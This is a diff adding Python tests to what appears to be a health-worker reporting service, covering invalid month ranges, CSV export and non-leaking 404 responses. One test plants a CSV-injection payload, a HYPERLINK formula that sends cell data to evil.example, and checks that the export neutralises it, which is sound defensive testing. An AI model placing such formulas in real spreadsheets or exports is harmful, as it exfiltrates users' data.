@@ -143,6 +143,18 @@ def test_bad_ranges_are_422(env: Env) -> None:
         assert resp.json()["error"]["field"] == field
 
 
+def test_months_outside_the_calendar_are_422_not_500(env: Env) -> None:
+    """0001-01 made the month's local midnight underflow the calendar (a 500)."""
+    for path in ("/report", "/report.csv", "/workers/mary/tasks"):
+        for params, field in (({"start": "0001-01", "end": "0001-02"}, "query.start"),
+                              ({"start": "9999-12", "end": "9999-12"}, "query.start"),
+                              ({"end": "0001-01"}, "query.end"), ({"start": "1999-12"}, "query.start"),
+                              ({"start": "2099-12", "end": "2100-01"}, "query.end")):
+            resp = env.get("nurse", path, **params)
+            assert resp.status_code == 422, (path, params, resp.text)
+            assert resp.json()["error"]["field"] == field, (path, params, resp.text)
+
+
 def test_scope_and_permission(env: Env) -> None:
     # another facility, or a place that does not exist: the same 404
     for place in ("hc-south", "nowhere"):
@@ -180,6 +192,28 @@ def test_csv_holds_the_reports_values(env: Env) -> None:
     keys = [*MONTHS, "total"]
     assert {(r[1], r[3], r[4]) for r in rows[1:]} == {
         (w, i["id"], k) for w in ["lucy", "mary", "team"] for i in json_report["indicators"] for k in keys}
+
+
+def test_csv_cells_never_start_a_formula(env: Env) -> None:
+    """A contact's name is a CHW's text: in the supervisor's spreadsheet it must stay text (CSV injection)."""
+    mary = env.store.get_doc("c-mary")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    env.store.write_doc({**mary, "name": formula})
+    rows = list(csv.reader(io.StringIO(env.get("nurse", "/report.csv").text)))
+    names = {r[2] for r in rows[1:] if r[1] == "mary"}
+    assert names == {"'" + formula}
+    assert ["hc-north", "mary", "'" + formula, "done", "2026-09", "1"] in rows  # numbers stay numbers
+    assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    assert next(w for w in env.ok("nurse")["workers"] if w["user"] == "mary")["name"] == formula  # JSON as is
+
+
+def test_a_workers_404_says_nothing_of_their_place(env: Env) -> None:
+    """"Not yours", "no such user" and "no place" read alike: the 404 names only what the caller sent."""
+    answers = {name: env.get("nurse", f"/workers/{name}/tasks") for name in ("john", "nobody", "admin")}
+    for name, resp in answers.items():
+        assert resp.status_code == 404, resp.text
+        assert resp.json()["error"]["message"] == f"no health worker {name!r} in your place"
+        assert "hc-south" not in resp.text and "c-john" not in resp.text
 
 
 def test_the_drill_down_lists_overdue_and_failed_tasks(env: Env) -> None:
